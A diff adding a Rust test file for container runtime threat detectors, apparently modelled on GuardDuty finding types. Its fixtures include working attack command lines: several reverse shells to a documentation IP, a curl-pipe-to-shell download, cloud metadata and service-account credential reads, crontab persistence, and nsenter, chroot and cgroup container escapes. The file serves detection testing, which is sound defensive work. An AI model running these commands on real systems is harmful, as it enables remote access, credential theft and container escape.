@@ -1,0 +1,689 @@
+//! Runtime detectors: for each, realistic events that must fire it and near misses that must not.
+//! Each case runs only the detector it is about, so another detector's finding on the same event
+//! cannot hide a miss.
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::indexing_slicing,
+    clippy::panic
+)]
+
+use vigil_detect::{DetectConfig, Engine};
+use vigil_schemas::{
+    ClusterDetails, Detection, EnrichedEvent, IpIntel, NetworkInfo, ProcessInfo, RuntimeEvent,
+    ThreatMatch,
+};
+
+/// A process in container `web` of pod `shop/web-7d9f` (Deployment `web`), started by `parent`.
+fn process_event(kind: &str, binary: &str, arguments: &str, parent: &str) -> RuntimeEvent {
+    RuntimeEvent {
+        event_id: format!("{kind}-{binary}-{arguments}"),
+        event_time_micros: 1_700_000_000_000_000,
+        kind: kind.into(),
+        sensor: "tetragon".into(),
+        node_name: Some("ip-10-0-1-5".into()),
+        container_id: Some("0123abcd".into()),
+        container_name: Some("web".into()),
+        image: Some("registry.example/shop/web:1.4".into()),
+        pod_name: Some("web-7d9f".into()),
+        pod_namespace: Some("shop".into()),
+        process: ProcessInfo {
+            pid: Some(4242),
+            exec_id: Some(format!("exec-{binary}")),
+            parent_exec_id: Some("exec-parent".into()),
+            binary: binary.into(),
+            arguments: (!arguments.is_empty()).then(|| arguments.to_owned()),
+            uid: Some(0),
+            ..ProcessInfo::default()
+        },
+        parent: Some(ProcessInfo {
+            exec_id: Some("exec-parent".into()),
+            binary: parent.into(),
+            ..ProcessInfo::default()
+        }),
+        ..RuntimeEvent::default()
+    }
+}
+
+fn exec(binary: &str, arguments: &str) -> RuntimeEvent {
+    process_event("process_exec", binary, arguments, "/bin/sh")
+}
+
+fn file(kind: &str, binary: &str, path: &str) -> RuntimeEvent {
+    let mut event = process_event(kind, binary, "", "/bin/sh");
+    event.file_path = Some(path.into());
+    event
+}
+
+fn on_host(mut event: RuntimeEvent) -> RuntimeEvent {
+    event.container_id = None;
+    event.container_name = None;
+    event.pod_name = None;
+    event.pod_namespace = None;
+    event
+}
+
+fn enriched(event: RuntimeEvent) -> EnrichedEvent {
+    let in_pod = event.pod_name.is_some();
+    EnrichedEvent {
+        runtime: Some(event),
+        cluster: ClusterDetails {
+            name: "test".into(),
+            partition: "aws".into(),
+            ..ClusterDetails::default()
+        },
+        workload_owner_kind: in_pod.then(|| "Deployment".to_owned()),
+        workload_owner_name: in_pod.then(|| "web".to_owned()),
+        ..EnrichedEvent::default()
+    }
+}
+
+fn run(detector: &str, event: EnrichedEvent) -> Vec<Detection> {
+    let mut config = DetectConfig::default();
+    if detector == "ptrace_anti_debugging" {
+        config.enable.push(detector.into());
+    }
+    let mut engine = Engine::build(&config).unwrap();
+    engine.retain(|name| name == detector);
+    assert_eq!(engine.detector_names(), [detector], "no detector {detector}");
+    let mut out = Vec::new();
+    engine.process(&event, &mut out);
+    out
+}
+
+#[track_caller]
+fn fires(detector: &str, finding_type: &str, event: RuntimeEvent) -> Detection {
+    let out = run(detector, enriched(event.clone()));
+    assert_eq!(out.len(), 1, "{detector} should fire once on {event:#?}");
+    assert_eq!(out[0].finding_type, finding_type);
+    out.into_iter().next().unwrap()
+}
+
+#[track_caller]
+fn quiet(detector: &str, event: RuntimeEvent) {
+    let out = run(detector, enriched(event.clone()));
+    assert!(out.is_empty(), "{detector} should stay quiet on {event:#?}: {out:#?}");
+}
+
+#[test]
+fn runtime_detections_carry_the_process_its_container_and_the_context() {
+    let detection = fires(
+        "crypto_miner_executed",
+        "Impact:Runtime/CryptoMinerExecuted",
+        exec("/tmp/xmrig", "-o stratum+tcp://pool.example:3333 -u wallet"),
+    );
+    let runtime = detection.runtime.expect("runtime details");
+    assert_eq!(runtime.process.binary, "/tmp/xmrig");
+    assert_eq!(runtime.pod_name.as_deref(), Some("web-7d9f"));
+    assert_eq!(runtime.image.as_deref(), Some("registry.example/shop/web:1.4"));
+    assert_eq!(runtime.context[0].key, "commandLineExample");
+    assert_eq!(
+        runtime.context[0].value,
+        "xmrig -o stratum+tcp://pool.example:3333 -u wallet"
+    );
+    // One finding per workload: the Deployment, not the pod.
+    assert_eq!(detection.aggregation_key, ["Deployment shop/web"]);
+    assert!(detection.user.is_none() && detection.api_call.is_none());
+}
+
+#[test]
+fn runtime_rules_do_not_look_at_audit_events_and_audit_rules_not_at_runtime_events() {
+    let event = enriched(exec("/usr/bin/nsenter", "-t 1 -m -u -n -i -p bash"));
+    let mut engine = Engine::default();
+    let mut out = Vec::new();
+    engine.process(&event, &mut out);
+    assert!(out.iter().all(|d| d.finding_type.contains(":Runtime/")), "{out:#?}");
+    assert!(!out.is_empty());
+}
+
+#[test]
+fn new_binary_and_library_only_when_written_in_the_container() {
+    let mut drift = enriched(exec("/tmp/payload", ""));
+    drift.binary_written_in_container = true;
+    assert_eq!(run("new_binary_executed", drift).len(), 1);
+    quiet("new_binary_executed", exec("/usr/bin/curl", "-s http://api"));
+    let mut library = enriched(file("library_load", "/usr/bin/python3", "/tmp/evil.so"));
+    library.binary_written_in_container = true;
+    let out = run("new_library_loaded", library);
+    assert_eq!(out[0].finding_type, "Execution:Runtime/NewLibraryLoaded");
+    quiet(
+        "new_library_loaded",
+        file("library_load", "/usr/bin/python3", "/usr/lib/libssl.so.3"),
+    );
+}
+
+#[test]
+fn reverse_shells_by_command_line_and_by_a_shell_holding_a_socket() {
+    let t = "Execution:Runtime/ReverseShell";
+    for (binary, arguments) in [
+        ("/bin/bash", "-c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
+        ("/usr/bin/nc", "-e /bin/sh 203.0.113.9 4444"),
+        ("/usr/bin/ncat", "203.0.113.9 4444 -e /bin/bash"),
+        ("/usr/bin/socat", "tcp:203.0.113.9:4444 exec:/bin/sh,pty,stderr"),
+        (
+            "/usr/bin/python3",
+            "-c import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")",
+        ),
+        ("/bin/sh", "-c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"),
+    ] {
+        fires("reverse_shell_command", t, exec(binary, arguments));
+    }
+    quiet("reverse_shell_command", exec("/usr/bin/nc", "-z db 5432"));
+    quiet("reverse_shell_command", exec("/bin/bash", "-c echo ready > /tmp/ready"));
+    quiet("reverse_shell_command", exec("/usr/bin/socat", "TCP-LISTEN:8080,fork TCP:backend:80"));
+
+    let mut socket = process_event("network_connect", "/bin/bash", "-i", "/usr/bin/nc");
+    socket.network = Some(NetworkInfo {
+        protocol: "tcp".into(),
+        destination_ip: Some("203.0.113.9".into()),
+        destination_port: Some(4444),
+        ..NetworkInfo::default()
+    });
+    let mut connect = enriched(socket.clone());
+    connect.destination_ip = Some(IpIntel {
+        ip: "203.0.113.9".into(),
+        scope: "public".into(),
+        ..IpIntel::default()
+    });
+    assert_eq!(run("reverse_shell_socket", connect.clone()).len(), 1);
+    // curl connecting out is what curl does.
+    let mut curl = connect.clone();
+    curl.runtime.as_mut().unwrap().process.binary = "/usr/bin/curl".into();
+    assert!(run("reverse_shell_socket", curl).is_empty());
+    // A shell talking to itself over loopback is not a remote shell.
+    let mut local = connect;
+    local.destination_ip.as_mut().unwrap().scope = "loopback".into();
+    assert!(run("reverse_shell_socket", local).is_empty());
+}
+
+#[test]
+fn interactive_shells_spawned_by_servers() {
+    let t = "Execution:Runtime/SuspiciousShellCreated";
+    fires(
+        "suspicious_shell_created",
+        t,
+        process_event("process_exec", "/bin/sh", "", "/usr/sbin/nginx"),
+    );
+    fires(
+        "suspicious_shell_created",
+        t,
+        process_event("process_exec", "/bin/bash", "-i", "/usr/bin/java"),
+    );
+    // Servers run helpers through `sh -c`; a shell started by a shell is a person or a script.
+    quiet(
+        "suspicious_shell_created",
+        process_event("process_exec", "/bin/sh", "-c /usr/local/bin/render.sh", "/usr/sbin/nginx"),
+    );
+    quiet(
+        "suspicious_shell_created",
+        process_event("process_exec", "/bin/bash", "", "/usr/bin/containerd-shim-runc-v2"),
+    );
+}
+
+#[test]
+fn suspicious_tools_offensive_high_dual_use_low() {
+    let t = "Execution:Runtime/SuspiciousTool";
+    let high = fires("suspicious_tool_offensive", t, exec("/usr/bin/masscan", "-p1-65535 10.0.0.0/8"));
+    assert!(high.severity >= 7.0);
+    let low = fires("suspicious_tool_dual_use", t, exec("/usr/bin/nc", "evil.example 443"));
+    assert!(low.severity < 4.0);
+    assert_eq!(low.runtime.unwrap().context[0].value, "Dual-use network tool");
+    quiet("suspicious_tool_dual_use", exec("/usr/bin/nc", "-z -w 2 postgres 5432"));
+    quiet("suspicious_tool_dual_use", on_host(exec("/usr/sbin/tcpdump", "-i eth0")));
+    quiet("suspicious_tool_offensive", exec("/usr/bin/curl", "https://api.example"));
+}
+
+#[test]
+fn suspicious_commands_by_purpose() {
+    let cases = [
+        (
+            "download_and_run_command",
+            "Execution:Runtime/SuspiciousCommand",
+            exec("/bin/sh", "-c curl -fsSL http://203.0.113.9/x.sh | sh"),
+            exec("/bin/sh", "-c curl -fsSL http://config/app.json -o /app/config.json"),
+        ),
+        (
+            "download_and_run_command",
+            "Execution:Runtime/SuspiciousCommand",
+            exec("/bin/chmod", "+x /tmp/kworker"),
+            exec("/bin/chmod", "+x /app/bin/server"),
+        ),
+        (
+            "discovery_suspicious_command",
+            "Discovery:Runtime/SuspiciousCommand",
+            exec("/usr/bin/curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+            exec("/usr/bin/curl", "http://169.254.169.254/latest/meta-data/placement/region"),
+        ),
+        (
+            "discovery_suspicious_command",
+            "Discovery:Runtime/SuspiciousCommand",
+            exec("/usr/local/bin/kubectl", "auth can-i --list"),
+            exec("/usr/local/bin/kubectl", "get configmap app-config -o yaml"),
+        ),
+        (
+            "defense_evasion_suspicious_command",
+            "DefenseEvasion:Runtime/SuspiciousCommand",
+            exec("/usr/sbin/iptables", "-F"),
+            exec("/usr/sbin/iptables", "-L -n"),
+        ),
+        (
+            "defense_evasion_suspicious_command",
+            "DefenseEvasion:Runtime/SuspiciousCommand",
+            exec("/bin/bash", "-c unset HISTFILE; ./run"),
+            exec("/bin/bash", "-c ./run"),
+        ),
+        (
+            "persistence_suspicious_command",
+            "Persistence:Runtime/SuspiciousCommand",
+            exec("/usr/sbin/useradd", "-m -s /bin/bash backup"),
+            exec("/usr/bin/crontab", "-l"),
+        ),
+        (
+            "persistence_suspicious_command",
+            "Persistence:Runtime/SuspiciousCommand",
+            exec("/bin/sh", "-c echo '* * * * * root /tmp/x' >> /etc/crontab"),
+            exec("/bin/sh", "-c echo done >> /tmp/log"),
+        ),
+        (
+            "container_escape_command",
+            "PrivilegeEscalation:Runtime/SuspiciousCommand",
+            exec("/usr/bin/nsenter", "-t 1 -m -u -n -i -p bash"),
+            exec("/usr/bin/nsenter", "--net=/var/run/netns/cni-1 ip addr"),
+        ),
+        (
+            "container_escape_command",
+            "PrivilegeEscalation:Runtime/SuspiciousCommand",
+            exec("/usr/sbin/chroot", "/host /bin/bash"),
+            exec("/usr/sbin/chroot", "/srv/build make"),
+        ),
+    ];
+    for (detector, finding_type, firing, near_miss) in cases {
+        fires(detector, finding_type, firing);
+        quiet(detector, near_miss);
+    }
+}
+
+#[test]
+fn what_an_escaped_shell_runs_is_the_same_escape_finding() {
+    // bash started by `nsenter -t 1`: the lineage shows the escape even when the exec does not.
+    let mut event = enriched(process_event("process_exec", "/usr/bin/bash", "", "/usr/bin/nsenter"));
+    event.lineage = vec![ProcessInfo {
+        binary: "/usr/bin/nsenter".into(),
+        arguments: Some("-t 1 -m -u -n -i -p bash".into()),
+        ..ProcessInfo::default()
+    }];
+    let first = run("container_escape_command", event.clone());
+    let mut later = event;
+    later.runtime.as_mut().unwrap().process.binary = "/usr/bin/id".into();
+    let second = run("container_escape_command", later);
+    assert_eq!(first[0].aggregation_key, second[0].aggregation_key);
+    // A process in the host's mount namespace inside a container has escaped too.
+    let mut host_mnt = exec("/usr/bin/ls", "/");
+    host_mnt.host_namespaces = vec!["mnt".into(), "pid".into()];
+    fires(
+        "container_escape_command",
+        "PrivilegeEscalation:Runtime/SuspiciousCommand",
+        host_mnt.clone(),
+    );
+    quiet("container_escape_command", on_host(host_mnt));
+}
+
+#[test]
+fn sensitive_files_by_purpose() {
+    let cases = [
+        (
+            "persistence_sensitive_file_modified",
+            "Persistence:Runtime/SensitiveFileModified",
+            file("file_write", "/usr/bin/vi", "/etc/passwd"),
+            file("file_read", "/usr/bin/vi", "/etc/passwd"),
+        ),
+        (
+            "persistence_sensitive_file_modified",
+            "Persistence:Runtime/SensitiveFileModified",
+            file("file_write", "/bin/sh", "/root/.ssh/authorized_keys"),
+            file("file_write", "/bin/sh", "/root/.ssh/known_hosts"),
+        ),
+        (
+            "privilege_escalation_sensitive_file_modified",
+            "PrivilegeEscalation:Runtime/SensitiveFileModified",
+            file("file_write", "/bin/sh", "/etc/sudoers.d/backdoor"),
+            file("file_write", "/bin/sh", "/etc/hosts"),
+        ),
+        (
+            "defense_evasion_sensitive_file_modified",
+            "DefenseEvasion:Runtime/SensitiveFileModified",
+            file("file_write", "/bin/sh", "/etc/ld.so.preload"),
+            file("file_write", "/bin/sh", "/etc/ld.so.conf.d/x.conf"),
+        ),
+        (
+            "defense_evasion_logs_removed",
+            "DefenseEvasion:Runtime/SensitiveFileModified",
+            file("file_unlink", "/bin/rm", "/var/log/auth.log"),
+            file("file_write", "/usr/sbin/nginx", "/var/log/nginx/access.log"),
+        ),
+        (
+            "defense_evasion_logs_removed",
+            "DefenseEvasion:Runtime/SensitiveFileModified",
+            file("file_unlink", "/bin/rm", "/root/.bash_history"),
+            file("file_unlink", "/usr/sbin/logrotate", "/var/log/app.log.1"),
+        ),
+        (
+            "credential_file_read",
+            "CredentialAccess:Runtime/SensitiveFileRead",
+            file("file_read", "/usr/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
+            // client-go reads its token every minute: the program owning a credential reads it.
+            file("file_read", "/app/controller", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
+        ),
+        (
+            "credential_file_dumped",
+            "CredentialAccess:Runtime/SensitiveFileRead",
+            exec("/usr/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
+            exec("/usr/bin/cat", "/etc/os-release"),
+        ),
+        (
+            "cgroups_release_agent_modified",
+            "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
+            file("file_write", "/bin/sh", "/tmp/cgrp/release_agent"),
+            file("file_write", "/bin/sh", "/tmp/cgrp/notify_on_release"),
+        ),
+        (
+            "cgroups_release_agent_modified",
+            "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
+            exec("/bin/sh", "-c echo /cmd > /tmp/cgrp/release_agent"),
+            exec("/bin/sh", "-c cat /sys/fs/cgroup/memory.max"),
+        ),
+        (
+            "docker_socket_accessed",
+            "PrivilegeEscalation:Runtime/DockerSocketAccessed",
+            file("file_open", "/usr/bin/curl", "/var/run/docker.sock"),
+            on_host(file("file_open", "/usr/bin/dockerd", "/var/run/docker.sock")),
+        ),
+        (
+            "docker_socket_accessed",
+            "PrivilegeEscalation:Runtime/DockerSocketAccessed",
+            exec("/usr/bin/curl", "--unix-socket /var/run/docker.sock http://localhost/containers/json"),
+            exec("/usr/bin/curl", "http://localhost:8080/health"),
+        ),
+        (
+            "runc_container_escape",
+            "PrivilegeEscalation:Runtime/RuncContainerEscape",
+            file("file_write", "/proc/self/exe", "/usr/bin/runc"),
+            file("file_write", "/usr/bin/dpkg", "/usr/bin/runc"),
+        ),
+        (
+            "process_injection_proc",
+            "DefenseEvasion:Runtime/ProcessInjection.Proc",
+            file("file_write", "/tmp/inject", "/proc/1234/mem"),
+            file("file_write", "/tmp/inject", "/proc/1234/oom_score_adj"),
+        ),
+    ];
+    for (detector, finding_type, firing, near_miss) in cases {
+        fires(detector, finding_type, firing);
+        quiet(detector, near_miss);
+    }
+}
+
+#[test]
+fn kernel_modules_mounts_and_memory() {
+    let mut module = process_event("module_load", "/usr/sbin/insmod", "rootkit.ko", "/bin/sh");
+    module.module_name = Some("rootkit".into());
+    module.file_path = Some("/tmp/rootkit.ko".into());
+    let found = fires("kernel_module_loaded", "DefenseEvasion:Runtime/KernelModuleLoaded", module);
+    let context = found.runtime.unwrap().context;
+    assert!(context.iter().any(|kv| kv.key == "moduleName" && kv.value == "rootkit"));
+    quiet("kernel_module_loaded", exec("/usr/sbin/insmod", "rootkit.ko"));
+    fires(
+        "kernel_module_load_command",
+        "DefenseEvasion:Runtime/KernelModuleLoaded",
+        exec("/usr/sbin/insmod", "/tmp/rootkit.ko"),
+    );
+    quiet("kernel_module_load_command", exec("/usr/sbin/modprobe", "-n br_netfilter"));
+    quiet("kernel_module_load_command", on_host(exec("/usr/sbin/modprobe", "br_netfilter")));
+
+    let mut mount = process_event("mount", "/bin/mount", "", "/bin/sh");
+    mount.mount_source = Some("/dev/nvme0n1p1".into());
+    mount.mount_target = Some("/mnt/host".into());
+    mount.mount_fs_type = Some("xfs".into());
+    fires(
+        "container_mounts_host_directory",
+        "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
+        mount.clone(),
+    );
+    let mut tmpfs = mount.clone();
+    tmpfs.mount_source = Some("tmpfs".into());
+    tmpfs.mount_fs_type = Some("tmpfs".into());
+    quiet("container_mounts_host_directory", tmpfs);
+    quiet("container_mounts_host_directory", on_host(mount));
+    fires(
+        "container_mount_command",
+        "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
+        exec("/bin/mount", "/dev/sda1 /mnt"),
+    );
+    quiet("container_mount_command", exec("/bin/mount", "-t tmpfs tmpfs /scratch"));
+
+    let mut poke = process_event("ptrace", "/tmp/inject", "", "/bin/sh");
+    poke.ptrace_request = Some("PTRACE_POKETEXT".into());
+    poke.target_pid = Some(1);
+    fires("process_injection_ptrace", "DefenseEvasion:Runtime/ProcessInjection.Ptrace", poke.clone());
+    let mut traceme = poke.clone();
+    traceme.ptrace_request = Some("PTRACE_TRACEME".into());
+    quiet("process_injection_ptrace", traceme.clone());
+    fires("ptrace_anti_debugging", "DefenseEvasion:Runtime/PtraceAntiDebugging", traceme);
+    quiet("ptrace_anti_debugging", poke);
+
+    let write = process_event("process_vm_write", "/tmp/inject", "", "/bin/sh");
+    fires(
+        "process_injection_vm_write",
+        "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite",
+        write,
+    );
+    quiet("process_injection_vm_write", process_event("ptrace", "/usr/bin/gdb", "", "/bin/sh"));
+
+    fires(
+        "userfaultfd_usage",
+        "PrivilegeEscalation:Runtime/UserfaultfdUsage",
+        process_event("userfaultfd", "/tmp/exploit", "", "/bin/sh"),
+    );
+    quiet("userfaultfd_usage", process_event("memfd_create", "/usr/bin/java", "", "/bin/sh"));
+}
+
+#[test]
+fn elevation_to_root_and_fileless_execution() {
+    let mut setuid = process_event("privilege_change", "/tmp/exploit", "", "/bin/sh");
+    setuid.process.uid = Some(1000);
+    setuid.new_uid = Some(0);
+    fires("elevation_to_root", "PrivilegeEscalation:Runtime/ElevationToRoot", setuid.clone());
+    let mut sudo = setuid.clone();
+    sudo.process.binary = "/usr/bin/sudo".into();
+    quiet("elevation_to_root", sudo);
+    let mut already_root = setuid;
+    already_root.process.uid = Some(0);
+    quiet("elevation_to_root", already_root);
+
+    fires(
+        "fileless_execution",
+        "DefenseEvasion:Runtime/FilelessExecution",
+        exec("/memfd:payload", ""),
+    );
+    fires(
+        "fileless_execution",
+        "DefenseEvasion:Runtime/FilelessExecution",
+        exec("/proc/self/fd/3", ""),
+    );
+    quiet("fileless_execution", exec("/usr/bin/python3", "app.py"));
+}
+
+#[test]
+fn dns_rebinding_to_the_metadata_service_and_mining_pools() {
+    let mut rebind = process_event("dns_query", "/usr/bin/curl", "", "/bin/sh");
+    rebind.dns_query = Some("7f000001.a9fea9fe.rbndr.us".into());
+    rebind.dns_answers = vec!["169.254.169.254".into()];
+    fires("metadata_dns_rebind", "UnauthorizedAccess:Runtime/MetadataDNSRebind", rebind.clone());
+    let mut honest = rebind.clone();
+    honest.dns_query = Some("instance-data.ec2.internal".into());
+    quiet("metadata_dns_rebind", honest);
+    let mut ordinary = rebind;
+    ordinary.dns_answers = vec!["93.184.216.34".into()];
+    quiet("metadata_dns_rebind", ordinary.clone());
+
+    let mut pool = ordinary.clone();
+    pool.dns_query = Some("gulf.moneroocean.stream".into());
+    fires("mining_pool_domain_request", "Impact:Runtime/BitcoinDomainRequest.Reputation", pool);
+    let mut api = ordinary;
+    api.dns_query = Some("api.stripe.com".into());
+    quiet("mining_pool_domain_request", api);
+}
+
+fn listed(category: Option<&str>, entry: &str) -> ThreatMatch {
+    ThreatMatch {
+        list_name: "intel".into(),
+        entry: entry.into(),
+        file_sha256: "ab".into(),
+        curated: false,
+        category: category.map(str::to_owned),
+    }
+}
+
+fn connection(ip: &str) -> EnrichedEvent {
+    let mut event = process_event("network_connect", "/tmp/agent", "", "/bin/sh");
+    event.network = Some(NetworkInfo {
+        protocol: "tcp".into(),
+        destination_ip: Some(ip.into()),
+        destination_port: Some(443),
+        ..NetworkInfo::default()
+    });
+    let mut enriched = enriched(event);
+    enriched.destination_ip = Some(IpIntel {
+        ip: ip.into(),
+        scope: "public".into(),
+        ..IpIntel::default()
+    });
+    enriched
+}
+
+#[test]
+fn threat_listed_addresses_and_domains_raise_the_type_of_their_list_category() {
+    for (category, ip_type) in [
+        (Some("c2"), "Backdoor:Runtime/C&CActivity.B"),
+        (Some("mining"), "CryptoCurrency:Runtime/BitcoinTool.B"),
+        (Some("drop_point"), "Trojan:Runtime/DropPoint"),
+        (Some("blackhole"), "Trojan:Runtime/BlackholeTraffic"),
+        (None, "UnauthorizedAccess:Runtime/MaliciousIPCaller.Custom"),
+    ] {
+        let mut event = connection("198.51.100.7");
+        event.destination_ip.as_mut().unwrap().threat_matches = vec![listed(category, "198.51.100.7")];
+        let out = run("runtime_threat_intel", event);
+        assert_eq!(out.len(), 1, "{category:?}");
+        assert_eq!(out[0].finding_type, ip_type);
+        assert_eq!(out[0].threat_intel[0].entry, "198.51.100.7");
+    }
+    for (category, dns_type) in [
+        (Some("c2"), "Backdoor:Runtime/C&CActivity.B!DNS"),
+        (Some("dga"), "Trojan:Runtime/DGADomainRequest.C!DNS"),
+        (Some("phishing"), "Trojan:Runtime/PhishingDomainRequest!DNS"),
+        (None, "Impact:Runtime/MaliciousDomainRequest.Reputation"),
+    ] {
+        let mut query = process_event("dns_query", "/tmp/agent", "", "/bin/sh");
+        query.dns_query = Some("beacon.evil.example".into());
+        let mut event = enriched(query);
+        event.domain_matches = vec![listed(category, "evil.example")];
+        let out = run("runtime_threat_intel", event);
+        assert_eq!(out.len(), 1);
+        assert_eq!(out[0].finding_type, dns_type);
+    }
+    // Tor, an unlisted address, and a listed but trusted one.
+    let mut tor = connection("185.220.101.1");
+    tor.destination_ip.as_mut().unwrap().tor_exit = true;
+    assert_eq!(
+        run("runtime_threat_intel", tor)[0].finding_type,
+        "UnauthorizedAccess:Runtime/TorClient"
+    );
+    assert!(run("runtime_threat_intel", connection("198.51.100.8")).is_empty());
+    let mut trusted = connection("198.51.100.7");
+    let remote = trusted.destination_ip.as_mut().unwrap();
+    remote.threat_matches = vec![listed(Some("c2"), "198.51.100.7")];
+    remote.trusted = true;
+    assert!(run("runtime_threat_intel", trusted).is_empty());
+}
+
+#[test]
+fn sensor_alerts_become_findings_with_the_sensors_purpose_and_priority() {
+    let mut alert = process_event("sensor_alert", "/bin/bash", "", "/usr/bin/runc");
+    alert.sensor = "falco".into();
+    alert.sensor_rule = Some("Terminal shell in container".into());
+    alert.sensor_priority = Some("Notice".into());
+    alert.sensor_fields = vec![vigil_schemas::KeyValue {
+        key: "tags".into(),
+        value: "container,mitre_execution,shell".into(),
+    }];
+    let found = fires("sensor_alert", "Execution:Runtime/SensorAlert", alert.clone());
+    assert!(found.severity < 4.0);
+    let mut critical = alert.clone();
+    critical.sensor_priority = Some("Critical".into());
+    critical.sensor_fields[0].value = "mitre_privilege_escalation".into();
+    let found = fires("sensor_alert", "PrivilegeEscalation:Runtime/SensorAlert", critical);
+    assert!(found.severity >= 7.0);
+    let mut exec_event = alert;
+    exec_event.kind = "process_exec".into();
+    quiet("sensor_alert", exec_event);
+}
+
+#[test]
+fn every_runtime_type_of_the_catalogue_has_a_detector() {
+    let catalogue = Engine::catalogue(&DetectConfig::default()).unwrap();
+    let types: Vec<&str> = catalogue.iter().map(|info| info.finding_type.as_str()).collect();
+    let covered = |wanted: &str| {
+        types.iter().any(|t| {
+            t.split(", ").any(|one| {
+                one == wanted
+                    || one.replace("[!DNS]", "") == wanted
+                    || one.replace("[!DNS]", "!DNS") == wanted
+            })
+        })
+    };
+    // The catalogue's runtime types that Vigil raises (reference/guardduty_finding_types.tsv);
+    // those it cannot (TorRelay, the reputation models without a feed, MaliciousFileExecuted
+    // without hashes) are listed in the README.
+    for wanted in [
+        "Backdoor:Runtime/C&CActivity.B",
+        "Backdoor:Runtime/C&CActivity.B!DNS",
+        "CryptoCurrency:Runtime/BitcoinTool.B",
+        "CryptoCurrency:Runtime/BitcoinTool.B!DNS",
+        "DefenseEvasion:Runtime/FilelessExecution",
+        "DefenseEvasion:Runtime/KernelModuleLoaded",
+        "DefenseEvasion:Runtime/ProcessInjection.Proc",
+        "DefenseEvasion:Runtime/ProcessInjection.Ptrace",
+        "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite",
+        "DefenseEvasion:Runtime/PtraceAntiDebugging",
+        "DefenseEvasion:Runtime/SuspiciousCommand",
+        "DefenseEvasion:Runtime/SensitiveFileModified",
+        "Discovery:Runtime/SuspiciousCommand",
+        "Execution:Runtime/NewBinaryExecuted",
+        "Execution:Runtime/NewLibraryLoaded",
+        "Execution:Runtime/ReverseShell",
+        "Execution:Runtime/SuspiciousCommand",
+        "Execution:Runtime/SuspiciousShellCreated",
+        "Execution:Runtime/SuspiciousTool",
+        "Impact:Runtime/BitcoinDomainRequest.Reputation",
+        "Impact:Runtime/CryptoMinerExecuted",
+        "Impact:Runtime/MaliciousDomainRequest.Reputation",
+        "Persistence:Runtime/SuspiciousCommand",
+        "Persistence:Runtime/SensitiveFileModified",
+        "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
+        "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
+        "PrivilegeEscalation:Runtime/DockerSocketAccessed",
+        "PrivilegeEscalation:Runtime/ElevationToRoot",
+        "PrivilegeEscalation:Runtime/RuncContainerEscape",
+        "PrivilegeEscalation:Runtime/SuspiciousCommand",
+        "PrivilegeEscalation:Runtime/SensitiveFileModified",
+        "PrivilegeEscalation:Runtime/UserfaultfdUsage",
+        "Trojan:Runtime/BlackholeTraffic",
+        "Trojan:Runtime/BlackholeTraffic!DNS",
+        "Trojan:Runtime/DropPoint",
+        "Trojan:Runtime/DropPoint!DNS",
+        "UnauthorizedAccess:Runtime/MetadataDNSRebind",
+        "UnauthorizedAccess:Runtime/TorClient",
+    ] {
+        assert!(covered(wanted), "no detector raises {wanted}");
+    }
+}
